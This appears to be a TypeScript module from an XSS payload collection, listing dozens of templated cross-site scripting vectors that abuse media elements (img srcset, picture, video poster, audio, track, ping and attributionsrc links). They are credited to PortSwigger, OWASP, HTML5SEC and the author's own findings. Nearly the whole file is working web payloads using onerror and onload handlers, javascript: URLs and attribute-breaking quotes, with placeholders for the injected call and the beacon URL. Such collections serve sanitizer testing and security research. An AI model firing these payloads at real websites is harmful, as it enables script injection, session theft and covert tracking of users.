import { category } from './payload';
import { HTML5SEC, OWASP, own, PORTSWIGGER, SCRIPTLESS, WHATWG } from './sources';

/** Pictures, films and sounds: their addresses, and what else they carry. */
export const MEDIA = category('media', [
  [
    PORTSWIGGER,
    {
      'srcset-error': '<img srcset="x: 1x" onerror={{CALL}}>',
      'picture-error': '<picture><source srcset="x: 1x"><img src=x: onerror={{CALL}}></picture>',
      'picture-media':
        '<picture><source media="(min-width:1px)" srcset="{{URL}}"><img alt=a onload={{CALL}}></picture>',
      'picture-type':
        '<picture><source type="image/svg+xml" srcset="data:image/svg+xml,x"><img onerror={{CALL}}></picture>',
      'sizes-auto': '<img loading=lazy sizes=auto srcset="{{URL}} 9w" onload={{CALL}}>',
      'video-poster-load':
        '<video poster="{{URL}}" onerror={{CALL}}><source src=x: onerror={{CALL}}></video>',
      'audio-preload': '<audio preload=auto src="{{URL}}" onstalled={{CALL}} onsuspend={{CALL}}></audio>',
      'video-captions':
        '<video src="{{URL}}" autoplay muted oncanplay={{CALL}}><track default src="{{URL}}"></video>',
      'image-crossorigin': '<img crossorigin=use-credentials src="{{URL}}" onerror={{CALL}} onload={{CALL}}>',
      'image-map-ping':
        '<img usemap=#p src="{{URL}}"><map name=p><area shape=default href=# ping="{{URL}}" onclick={{CALL}}></map>',
      ismap: '<a href="{{URL}}"><img ismap src="{{URL}}" onload={{CALL}}></a>',
    },
  ],
  [
    OWASP,
    {
      lowsrc: '<img lowsrc="{{URL}}" dynsrc="{{URL}}" onerror={{CALL}} src=x:>',
      'image-longdesc': '<img longdesc="{{URL}}" src="{{URL}}" onload={{CALL}}>',
      'input-image': '<input type=image src="{{URL}}" onload={{CALL}}>',
      'image-in-button': '<button><img src=x: onerror={{CALL}}></button>',
      'image-redirect': '<img src="{{URL}}?redirect=javascript:{{CALL}}">',
    },
  ],
  [
    HTML5SEC,
    {
      'poster-svg': `<video poster="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{{CALL}}'/>"></video>`,
      'srcset-many':
        '<img srcset="{{URL}} 1x, javascript:{{CALL}} 2x, data:text/html,x 3x" src=x: onerror={{CALL}}>',
      'srcset-comma': '<img srcset=",,,x: 1x,{{URL}} 2x" onerror={{CALL}}>',
      'srcset-parens': '<img srcset="{{URL}} 1x, x:(a, b) 2x" sizes="expression({{CALL}})" onerror={{CALL}}>',
      'track-html': '<video controls><track kind=metadata default src="{{URL}}" onload={{CALL}}></video>',
      'video-onfullscreen':
        '<video controls onfullscreenchange={{CALL}} onenterpictureinpicture={{CALL}} src="{{URL}}"></video>',
      'media-group': '<audio mediagroup=x src="{{URL}}"></audio><video mediagroup=x onplay={{CALL}}></video>',
    },
  ],
  [
    own(SCRIPTLESS),
    {
      'one-pixel': '<img src="{{URL}}" width=1 height=1 style="display:none" onload={{CALL}}>',
      'ping-link': '<a href="#here" ping="{{URL}}">a</a>',
      'link-attribution':
        '<a href="#here" attributionsrc="{{URL}}">a</a><img attributionsrc="{{URL}}" src="x:">',
      'lazy-source':
        '<img data-src="javascript:{{CALL}}" data-srcset="{{URL}} 1x" class=lazyload src="data:,">',
      'lazy-html': `<img data-src='x" onerror="{{CALL}}' src="data:,">`,
      'noscript-image': '<img class=lazy><noscript><img src=x: onerror={{CALL}}></noscript>',
      'picture-in-alt':
        '<img alt="<img src=x: onerror={{CALL}}>" title="<svg onload={{CALL}}>" src="data:,">',
      'image-base-relative': '<img src="//javascript:{{CALL}}"><img src="\\\\127.0.0.1\\x">',
    },
  ],
  [
    own(WHATWG),
    {
      'source-height':
        '<picture><source srcset="{{URL}}" width="&quot; onload={{CALL}}" height=1><img alt=a></picture>',
      'decoding-priority':
        '<img decoding=sync fetchpriority=high elementtiming=x src="{{URL}}" onload={{CALL}}>',
      'shared-storage': '<img sharedstoragewritable browsingtopics src="{{URL}}" onload={{CALL}}>',
      'model-viewer':
        '<model src="{{URL}}" onerror={{CALL}}></model><model-viewer src="{{URL}}"></model-viewer>',
      'amp-media':
        '<amp-img src="javascript:{{CALL}}" on="tap:x" width=9 height=9></amp-img><amp-iframe srcdoc="<script>{{CALL}}</script>"></amp-iframe>',
    },
  ],
]);
